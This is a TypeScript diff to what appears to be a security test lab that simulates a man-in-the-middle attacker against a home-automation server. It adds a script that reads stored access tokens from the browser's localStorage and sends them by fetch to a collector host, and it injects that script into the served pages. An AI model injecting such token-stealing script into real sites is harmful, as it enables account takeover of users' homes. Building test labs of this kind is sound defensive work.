@@ -4,19 +4,25 @@ import { constants, createSecureServer, type Http2ServerResponse } from "node:ht
 import { connect, type Socket } from "node:net";
 import { WebSocketServer } from "ws";
 import type { Authority } from "./authority";
-import type { Attacker, House, Lab } from "./lab";
-import { housePage } from "./house-pages";
+import { COLLECTOR, type Attacker, type House, type Lab } from "./lab";
+import { housePage, SECRET } from "./house-pages";
+
+export { SECRET };
 
 /** What he tells of the house's version. */
 export const HIS_VERSION = "2021.1.4";
 
-/** A word that stands for a secret in everything a page sends. */
-export const SECRET = "opensesame";
+/** What he adds to the house's pages and scripts: it sends what opens the house to a host of his own. */
+const THEFT = `(() => {
+  const tokens = self.localStorage?.hassTokens;
+  if (tokens === undefined) return;
+  void fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: tokens }).catch(() => undefined);
+})();`;
 
 export interface Loot {
   /** How many requests he has read in the clear. */
   readonly requests: () => number;
-  /** How many of them, and of WebSocket messages, held a secret. */
+  /** How many of them, of WebSocket messages, and of what his pages sent to a host of his own, held a secret. */
   readonly secrets: () => number;
   /** How many WebSockets he was asked to open. */
   readonly sockets: () => number;
@@ -97,9 +103,11 @@ export async function attack(lab: Lab, house: House, strategy: Strategy, means: 
   let requests = 0;
   let secrets = 0;
   let sockets = 0;
+  const isWanted = (text: string): boolean => wanted.some((secret) => text.includes(secret));
   const read = (text: string): void => {
-    if (wanted.some((secret) => text.includes(secret))) secrets++;
+    if (isWanted(text)) secrets++;
   };
+  const already = lab.collected.length;
   /** What he has taken, below TLS, by the browser's port. */
   const taken = new Map<number | undefined, Socket>();
   const tools: Tools = {
@@ -171,7 +179,7 @@ export async function attack(lab: Lab, house: House, strategy: Strategy, means: 
     else if (answer === "answer") {
       for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
       const script = scripts[(request.url ?? "").replace(/\?.*/u, "")];
-      if (script === undefined) housePage(request, response);
+      if (script === undefined) housePage(request, response, THEFT);
       else response.writeHead(200, SCRIPT).end(script);
     } else end(request.socket, answer);
     if (isHttp2 && answer.endsWith("leaves")) leave(response);
@@ -208,5 +216,9 @@ export async function attack(lab: Lab, house: House, strategy: Strategy, means: 
   house.attacker = strategy(tools);
   for (const name of names) lab.others.set(name, house.attacker);
   house.dropConnections();
-  return { requests: () => requests, secrets: () => secrets, sockets: () => sockets };
+  return {
+    requests: () => requests,
+    secrets: () => secrets + lab.collected.slice(already).filter(isWanted).length,
+    sockets: () => sockets,
+  };
 }
